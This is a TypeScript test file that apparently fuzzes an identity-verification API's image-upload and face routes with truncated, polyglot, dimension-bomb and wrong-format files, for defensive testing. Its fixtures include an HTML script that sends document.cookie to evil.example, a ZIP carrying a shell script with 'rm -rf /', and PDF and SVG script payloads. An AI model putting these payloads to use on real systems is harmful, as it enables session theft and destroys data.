/**
 * A generated corpus of malformed and unusual image files against every route that takes image bytes: PUT
 * /v1/verifications/{id}/media/{kind} (raw body and multipart), the multipart POST /v1/verifications, and POST
 * /v1/faces/detect and /v1/faces/compare. Broken files are crafted here, byte by byte, from legitimate ones that
 * sharp made in Node (the DOCGEN binding's /malformed: progressive, CMYK, 16-bit, grayscale, animated, 1×1, EXIF
 * orientation 6). Whatever the file: never a 5xx, every refusal in the one error shape with the code and reason
 * the gate gives (src/media/sniff.ts, src/media/uploads.ts), and a refused upload leaves no media row and no R2
 * object. Last, one verification made only of accepted oddballs goes through the real pipeline to a final state
 * that is not `error`: what the upload gate lets through, the pipeline must cope with.
 */
import { env } from "cloudflare:test";
import { beforeAll, describe, expect, it } from "vitest";
import { SCOPES } from "../../src/types";
import type { Sent } from "../helpers/fuzz";
import { clip, send, snapshotChanges, tenantSnapshot } from "../helpers/fuzz";
import { expectErrorShape } from "../helpers/http";
import { apiKeyHeader, createApiKey, registerTenant } from "../helpers/identity";
import { APPLICANT, CONSENT, DOCUMENT, FINAL } from "../helpers/verifications";

const MAX_UPLOAD_BYTES = Number(env.MAX_UPLOAD_BYTES ?? 10 * 1024 * 1024);

/** What the API should answer for a file: stored (201), or refused with this status, code and `details.reason`. */
type Expectation = { accepted: true } | { accepted: false; status: number; code: string; reason?: string };

const accepted: Expectation = { accepted: true };
const unsupported: Expectation = { accepted: false, status: 415, code: "UNSUPPORTED_MEDIA_TYPE" };
const invalid = (reason: string): Expectation => ({ accepted: false, status: 422, code: "IMAGE_INVALID", reason });
const tooLarge: Expectation = { accepted: false, status: 413, code: "PAYLOAD_TOO_LARGE" };

interface Case {
  name: string;
  bytes: Uint8Array;
  expect: Expectation;
}

const text = (s: string) => new TextEncoder().encode(s);
const concat = (...parts: Uint8Array[]) => {
  const out = new Uint8Array(parts.reduce((n, p) => n + p.length, 0));
  let o = 0;
  for (const p of parts) {
    out.set(p, o);
    o += p.length;
  }
  return out;
};
const patched = (bytes: Uint8Array, offset: number, values: number[]) => {
  const out = bytes.slice();
  out.set(values, offset);
  return out;
};
const be16 = (v: number) => [(v >> 8) & 0xff, v & 0xff];
const be32 = (v: number) => [(v >>> 24) & 0xff, (v >> 16) & 0xff, (v >> 8) & 0xff, v & 0xff];
const le24 = (v: number) => [v & 0xff, (v >> 8) & 0xff, (v >> 16) & 0xff];

/** Offset of the first JPEG start-of-frame segment (its length field is at +2, height at +5, width at +7). */
function sofOffset(jpeg: Uint8Array): number {
  let o = 2;
  while (o < jpeg.length) {
    const marker = jpeg[o + 1];
    if (marker >= 0xc0 && marker <= 0xcf && marker !== 0xc4 && marker !== 0xc8 && marker !== 0xcc) return o;
    o += 2 + ((jpeg[o + 2] << 8) | jpeg[o + 3]);
  }
  throw new Error("no SOF in fixture");
}

/** Offset of the first PNG chunk of `type` (its length field; data at +8). */
function pngChunk(png: Uint8Array, type: string): number {
  let o = 8;
  while (o + 8 <= png.length) {
    if (String.fromCharCode(...png.subarray(o + 4, o + 8)) === type) return o;
    o += 12 + ((png[o] << 24) >>> 0) + (png[o + 1] << 16) + (png[o + 2] << 8) + png[o + 3];
  }
  throw new Error(`no ${type} chunk in fixture`);
}

const ZIP = concat(new Uint8Array([0x50, 0x4b, 0x03, 0x04, 0x14, 0, 0, 0, 0, 0]), text("evil.sh#!/bin/sh\nrm -rf /\n"), new Uint8Array([0x50, 0x4b, 0x05, 0x06, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0]));
const HTML = text("<html><body><script>fetch('https://evil.example/?c='+document.cookie)</script></body></html>");
const PDF = text("%PDF-1.7\n1 0 obj<</Type/Catalog/OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n");

/** The corpus, from the legitimate files sharp made. Each expectation is what src/media decides, checked here. */
function corpus(files: Record<string, Uint8Array>): Case[] {
  const jpeg = files["selfie.jpg"];
  const png = files["selfie.png"];
  const webp = files["selfie.webp"];
  const tinyJpeg = files["one-pixel.jpg"];
  const tinyPng = files["one-pixel.png"];
  const lossless = files["one-pixel.webp"];
  const animated = files["animated.webp"];
  const jpegSof = sofOffset(tinyJpeg);
  const ihdr = pngChunk(tinyPng, "IHDR");
  return [
    { name: "zero-length", bytes: new Uint8Array(0), expect: invalid("EMPTY") },
    // Truncated at several cut points: in the header, in the first segments, mid-scan, just before the end marker.
    { name: "JPEG cut after 4 bytes", bytes: jpeg.subarray(0, 4), expect: invalid("TRUNCATED") },
    { name: "JPEG cut after 100 bytes", bytes: jpeg.subarray(0, 100), expect: invalid("TRUNCATED") },
    { name: "JPEG cut in half", bytes: jpeg.subarray(0, jpeg.length >> 1), expect: invalid("TRUNCATED") },
    { name: "JPEG without its end-of-image marker", bytes: jpeg.subarray(0, jpeg.length - 2), expect: invalid("TRUNCATED") },
    { name: "PNG signature only", bytes: png.subarray(0, 8), expect: invalid("TRUNCATED") },
    { name: "PNG cut after 40 bytes", bytes: png.subarray(0, 40), expect: invalid("TRUNCATED") },
    { name: "PNG cut in half", bytes: png.subarray(0, png.length >> 1), expect: invalid("TRUNCATED") },
    { name: "PNG cut inside IEND", bytes: png.subarray(0, png.length - 6), expect: invalid("TRUNCATED") },
    { name: "WebP cut after 12 bytes", bytes: webp.subarray(0, 12), expect: invalid("TRUNCATED") },
    { name: "WebP cut in half", bytes: webp.subarray(0, webp.length >> 1), expect: invalid("TRUNCATED") },
    // Wrong magic: near misses of ours, and other formats that browsers or tools would happily open.
    { name: "JPEG with its first byte zeroed", bytes: patched(jpeg, 0, [0x00]), expect: unsupported },
    { name: "PNG signature off by one byte", bytes: patched(png, 7, [0x00]), expect: unsupported },
    { name: "RIFF that is WAVE, not WEBP", bytes: patched(webp, 8, [...text("WAVE")]), expect: unsupported },
    { name: "GIF", bytes: concat(text("GIF89a"), new Uint8Array([1, 0, 1, 0, 0x80, 0, 0, 0, 0, 0, 0xff, 0xff, 0xff, 0x2c, 0, 0, 0, 0, 1, 0, 1, 0, 0, 2, 2, 0x44, 1, 0, 0x3b])), expect: unsupported },
    { name: "BMP", bytes: concat(text("BM"), new Uint8Array(60)), expect: unsupported },
    { name: "TIFF", bytes: concat(new Uint8Array([0x49, 0x49, 0x2a, 0x00, 8, 0, 0, 0]), new Uint8Array(40)), expect: unsupported },
    { name: "HEIC", bytes: concat(new Uint8Array([0, 0, 0, 0x18]), text("ftypheic\0\0\0\0mif1heic"), new Uint8Array(40)), expect: unsupported },
    { name: "SVG with a script", bytes: text('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'), expect: unsupported },
    { name: "HTML", bytes: HTML, expect: unsupported },
    { name: "PDF", bytes: PDF, expect: unsupported },
    { name: "ZIP", bytes: ZIP, expect: unsupported },
    // Polyglots. After a complete image, trailing bytes are ignored as every decoder ignores them (stored as sent,
    // served only as the image type). A JPEG header with something else where the image should be is refused.
    { name: "polyglot: complete JPEG + ZIP", bytes: concat(jpeg, ZIP), expect: accepted },
    { name: "polyglot: complete JPEG + PDF", bytes: concat(jpeg, PDF), expect: accepted },
    { name: "polyglot: complete PNG + trailing script", bytes: concat(png, HTML), expect: accepted },
    { name: "polyglot: JPEG header + ZIP body", bytes: concat(jpeg.subarray(0, 20), ZIP), expect: invalid("CORRUPT_HEADER") },
    { name: "polyglot: JPEG header + HTML body", bytes: concat(new Uint8Array([0xff, 0xd8, 0xff, 0xfe, 0x00, HTML.length + 2]), HTML), expect: invalid("TRUNCATED") },
    { name: "oversized: a real JPEG padded past MAX_UPLOAD_BYTES", bytes: concat(jpeg, new Uint8Array(MAX_UPLOAD_BYTES + 1 - jpeg.length)), expect: tooLarge },
    // Dimension bombs: a few hundred bytes whose header claims a huge canvas; refused from the header, never decoded.
    { name: "bomb: 1×1 PNG claiming 65535×65535", bytes: patched(tinyPng, ihdr + 8, [...be32(65535), ...be32(65535)]), expect: invalid("TOO_MANY_PIXELS") },
    { name: "bomb: 1×1 PNG claiming 2^31×2^31", bytes: patched(tinyPng, ihdr + 8, [...be32(2 ** 31), ...be32(2 ** 31)]), expect: invalid("TOO_MANY_PIXELS") },
    { name: "bomb: 1×1 PNG claiming 0×0", bytes: patched(tinyPng, ihdr + 8, [...be32(0), ...be32(0)]), expect: invalid("CORRUPT_HEADER") },
    { name: "bomb: 1×1 JPEG claiming 20000×20000", bytes: patched(tinyJpeg, jpegSof + 5, [...be16(20000), ...be16(20000)]), expect: invalid("TOO_MANY_PIXELS") },
    { name: "bomb: 1×1 JPEG claiming 65535×65535", bytes: patched(tinyJpeg, jpegSof + 5, [...be16(65535), ...be16(65535)]), expect: invalid("TOO_MANY_PIXELS") },
    { name: "bomb: 1×1 JPEG claiming 0 rows", bytes: patched(tinyJpeg, jpegSof + 5, [...be16(0)]), expect: invalid("CORRUPT_HEADER") },
    { name: "bomb: animated WebP claiming a 16384×16384 canvas", bytes: patched(animated, 24, [...le24(16383), ...le24(16383)]), expect: invalid("TOO_MANY_PIXELS") },
    { name: "bomb: 1×1 lossless WebP claiming 16384×16384", bytes: patched(lossless, 21, [0xff, 0xff, 0xff, 0x0f]), expect: invalid("TOO_MANY_PIXELS") },
    // Legitimate but unusual encodings: phones, scanners and editors write these, so they are stored.
    { name: "progressive JPEG", bytes: files["selfie-progressive.jpg"], expect: accepted },
    // CMYK is a print file, and photon reads its colours wrong (a real selfie's liveness fell from 0.91 to 0.44): refused.
    { name: "CMYK JPEG", bytes: files["selfie-cmyk.jpg"], expect: invalid("UNSUPPORTED_COLOUR_SPACE") },
    { name: "grayscale JPEG", bytes: files["selfie-grayscale.jpg"], expect: accepted },
    { name: "JPEG with EXIF orientation 6", bytes: files["selfie-orientation-6.jpg"], expect: accepted },
    { name: "16-bit PNG", bytes: files["selfie-16bit.png"], expect: accepted },
    { name: "animated WebP", bytes: animated, expect: accepted },
    { name: "1×1 JPEG", bytes: tinyJpeg, expect: accepted },
    { name: "1×1 PNG", bytes: tinyPng, expect: accepted },
    { name: "1×1 lossless WebP", bytes: lossless, expect: accepted },
    { name: "1×1 lossy WebP", bytes: files["one-pixel-lossy.webp"], expect: accepted },
  ];
}

/** Offset just past the first JPEG start-of-scan header: where the entropy-coded data begins. */
function scanData(jpeg: Uint8Array): number {
  let o = 2;
  while (o < jpeg.length && jpeg[o + 1] !== 0xda) o += 2 + ((jpeg[o + 2] << 8) | jpeg[o + 3]);
  return o + 2 + ((jpeg[o + 2] << 8) | jpeg[o + 3]);
}

/**
 * Well-formed on the outside, garbage inside. The gate reads headers only (by design: nothing is decoded before
 * storage), so these are stored; every decoder behind it must refuse them as the client's error, not ours.
 */
function garbageInside(files: Record<string, Uint8Array>): Case[] {
  const png = files["selfie.png"];
  const jpeg = files["selfie.jpg"];
  const noise = (n: number) => Array.from({ length: n }, (_, i) => (i * 37 + 11) % 255);
  return [
    { name: "JPEG whose scan data is noise", bytes: patched(jpeg, scanData(jpeg) + 10, noise(2000)), expect: accepted },
    { name: "PNG whose compressed image data is garbage", bytes: patched(png, pngChunk(png, "IDAT") + 8, new Array(64).fill(0x41)), expect: accepted },
  ];
}

let key: Record<string, string>;
let adminToken: string;
let tenantId: string;
let files: Record<string, Uint8Array>;
let cases: Case[];
let garbage: Case[];

beforeAll(async () => {
  const tenant = await registerTenant({ tenantName: "Upload fuzz" });
  tenantId = tenant.tenantId;
  adminToken = tenant.accessToken;
  key = apiKeyHeader((await createApiKey(tenant.accessToken, { scopes: [...SCOPES], rate_limit_per_minute: 100_000 })).key);
  const res = await env.DOCGEN.fetch("http://docgen/malformed");
  if (!res.ok) throw new Error(`docgen /malformed: ${res.status} ${await res.text()}`);
  const list = (await res.json()) as { name: string; bytes: string }[];
  files = Object.fromEntries(list.map((f) => [f.name, Uint8Array.from(atob(f.bytes), (c) => c.charCodeAt(0))]));
  cases = corpus(files);
  garbage = garbageInside(files);
});

async function createVerification(): Promise<string> {
  const res = await send("/v1/verifications", { method: "POST", headers: { ...key, "Content-Type": "application/json" }, body: JSON.stringify({ applicant: APPLICANT, document: DOCUMENT, consent: CONSENT }) });
  if (res.status !== 201) throw new Error(`create: ${res.status} ${res.text}`);
  return res.data.id;
}

/**
 * A key of its own for a run of face requests: every caller may make 60 expensive requests a minute (refused
 * images count too), and the corpus sends more than that to one route.
 */
const faceKey = async () => apiKeyHeader((await createApiKey(adminToken, { scopes: ["faces"], rate_limit_per_minute: 100_000 })).key);

const form = (parts: Record<string, Uint8Array | string>) => {
  const body = new FormData();
  for (const [name, value] of Object.entries(parts)) {
    if (typeof value === "string") body.append(name, value);
    else body.append(name, new Blob([value]), `${name}.bin`);
  }
  return body;
};

/**
 * Sends one file and checks the answer against its expectation: never a 5xx; a refusal in the error shape with
 * its code (and reason, where the gate names one) and nothing new in the tenant's rows or R2 objects.
 * `decodes`: the route decodes what passes the gate (faces), so an accepted file may still be a 422, never a 5xx.
 */
async function check(route: string, c: Case, request: () => Promise<Sent>, okStatus: number, decodes = false) {
  const before = await tenantSnapshot(tenantId);
  const res = await request();
  const what = `${route} with ${c.name} (${c.bytes.length} bytes) → ${res.status} ${clip(res.text)}`;
  expect(res.status, what).toBeLessThan(500);
  if (c.expect.accepted) {
    if (decodes && res.status !== okStatus) {
      expect(res.status, what).toBe(422);
      expect(["IMAGE_INVALID", "UNPROCESSABLE"], what).toContain(expectErrorShape(res, 422).code);
    } else {
      expect(res.status, what).toBe(okStatus);
    }
    return res;
  }
  let error: ReturnType<typeof expectErrorShape>;
  try {
    error = expectErrorShape(res, c.expect.status, c.expect.code);
  } catch (err) {
    throw new Error(`${(err as Error).message}: ${what}`);
  }
  if (c.expect.reason) expect(error.details?.reason, what).toBe(c.expect.reason);
  expect(snapshotChanges(before, await tenantSnapshot(tenantId)), `a refused upload left something behind: ${what}`).toEqual({});
  return res;
}

describe("a malformed-file corpus against every upload route", () => {
  it("PUT /v1/verifications/{id}/media/{kind}, raw body", async () => {
    const id = await createVerification();
    for (const c of cases) {
      const res = await check("PUT raw", c, () => send(`/v1/verifications/${id}/media/document_front`, { method: "PUT", headers: { ...key, "Content-Type": "application/octet-stream" }, body: c.bytes }), 201);
      if (res.status === 201) expect(res.data.bytes, c.name).toBe(c.bytes.length);
    }
  });

  it("PUT /v1/verifications/{id}/media/{kind}, multipart `file` part", async () => {
    const id = await createVerification();
    for (const c of cases) {
      await check("PUT multipart", c, () => send(`/v1/verifications/${id}/media/selfie`, { method: "PUT", headers: key, body: form({ file: c.bytes }) }), 201);
    }
  });

  it("POST /v1/verifications, multipart with the file as document_front", async () => {
    const data = JSON.stringify({ applicant: APPLICANT, document: DOCUMENT, consent: CONSENT });
    for (const c of cases) {
      await check("POST /v1/verifications multipart", c, () => send("/v1/verifications", { method: "POST", headers: key, body: form({ data, document_front: c.bytes }) }), 201);
    }
  });

  it("POST /v1/faces/detect, raw body and multipart `image` part", async () => {
    const [rawKey, formKey] = [await faceKey(), await faceKey()];
    for (const c of cases) {
      // An empty raw body is a missing image (400), not an empty one: there is no part to be empty.
      const raw = c.bytes.length === 0 ? { ...c, expect: { accepted: false as const, status: 400, code: "VALIDATION_ERROR" } } : c;
      await check("POST /v1/faces/detect raw", raw, () => send("/v1/faces/detect?liveness=false", { method: "POST", headers: { ...rawKey, "Content-Type": "application/octet-stream" }, body: c.bytes }), 200, true);
      if (!c.expect.accepted) await check("POST /v1/faces/detect multipart", c, () => send("/v1/faces/detect?liveness=false", { method: "POST", headers: formKey, body: form({ image: c.bytes }) }), 200, true);
    }
  });

  it("POST /v1/faces/compare, the file as `a` against a real selfie as `b`", async () => {
    const selfie = files["selfie.jpg"];
    const compareKey = await faceKey();
    for (const c of cases) {
      // Accepted files cost two inferences each; the refusals are the point here, plus a few oddballs.
      if (c.expect.accepted && !/CMYK|16-bit|orientation|1×1 JPEG/.test(c.name)) continue;
      await check("POST /v1/faces/compare", c, () => send("/v1/faces/compare", { method: "POST", headers: compareKey, body: form({ a: c.bytes, b: selfie }) }), 200, true);
    }
  });
});

describe("images well-formed outside and garbage inside", () => {
  it("are stored by PUT (the gate reads headers only), byte for byte", async () => {
    const id = await createVerification();
    for (const c of garbage) {
      const res = await check("PUT raw", c, () => send(`/v1/verifications/${id}/media/document_front`, { method: "PUT", headers: key, body: c.bytes }), 201);
      expect(res.data.bytes, c.name).toBe(c.bytes.length);
    }
  });

  // These answered 503 "try again shortly" until the face routes stopped treating a failed decode of a small image
  // as retryable (src/routes/faces/faces.handlers.ts: a 503 only above 4 MP, where running out of memory is believable).
  it("POST /v1/faces/detect answers 200 or 422 IMAGE_INVALID for them, never a 5xx asking the client to retry", async () => {
    const detectKey = await faceKey();
    for (const c of garbage) {
      await check("POST /v1/faces/detect raw", c, () => send("/v1/faces/detect?liveness=false", { method: "POST", headers: { ...detectKey, "Content-Type": "application/octet-stream" }, body: c.bytes }), 200, true);
    }
  });

  it("POST /v1/faces/compare answers 200 or 422 for them, never a 5xx", async () => {
    const compareKey = await faceKey();
    for (const c of garbage) {
      await check("POST /v1/faces/compare", c, () => send("/v1/faces/compare", { method: "POST", headers: compareKey, body: form({ a: c.bytes, b: files["selfie.jpg"] }) }), 200, true);
    }
  });
});

describe("unusual encodings are read as what they show", () => {
  // CMYK is refused at the gate (above): photon decoded it with the wrong colours and its liveness fell to 0.44.
  it("POST /v1/faces/detect?liveness=true: progressive, grayscale and 16-bit versions of a selfie get its liveness (±0.15)", async () => {
    const detectKey = await faceKey();
    const liveness = async (name: string) => {
      const res = await send("/v1/faces/detect?liveness=true", { method: "POST", headers: detectKey, body: files[name] });
      expect(res.status, `${name}: ${clip(res.text)}`).toBe(200);
      expect(res.data.faces.length, name).toBeGreaterThanOrEqual(1);
      return res.data.faces[0].liveness.score as number;
    };
    const reference = await liveness("selfie.jpg");
    const scores: Record<string, number> = {};
    for (const name of ["selfie-progressive.jpg", "selfie-16bit.png", "selfie-grayscale.jpg"]) scores[name] = await liveness(name);
    for (const [name, score] of Object.entries(scores)) expect(Math.abs(score - reference), `${name}: ${score} vs ${reference} for the RGB JPEG`).toBeLessThanOrEqual(0.15);
  });
});

describe("the pipeline copes with what the upload gate accepts", () => {
  it("a verification made only of oddballs (progressive, 16-bit, grayscale, EXIF orientation 6) reaches a final state that is not error", async () => {
    const id = await createVerification();
    const uploads: [string, string][] = [
      ["document_front", "document-progressive.jpg"],
      ["document_back", "document-16bit.png"],
      ["selfie", "selfie-grayscale.jpg"],
      ["selfie_frame", "selfie-orientation-6.jpg"],
    ];
    for (const [kind, name] of uploads) {
      const res = await send(`/v1/verifications/${id}/media/${kind}`, { method: "PUT", headers: key, body: files[name] });
      expect(res.status, `${kind} ${name}: ${clip(res.text)}`).toBe(201);
    }
    const submitted = await send(`/v1/verifications/${id}/submit`, { method: "POST", headers: key });
    expect(submitted.status, clip(submitted.text)).toBe(202);
    const deadline = Date.now() + 50_000;
    let view = (await send(`/v1/verifications/${id}`, { headers: key })).data;
    while (!FINAL.includes(view.status) && Date.now() < deadline) {
      await new Promise((r) => setTimeout(r, 200));
      view = (await send(`/v1/verifications/${id}`, { headers: key })).data;
    }
    expect(FINAL, `still ${view.status} after 50 s`).toContain(view.status);
    expect(view.status, JSON.stringify(view).slice(0, 2000)).not.toBe("error");
  }, 90_000);
});
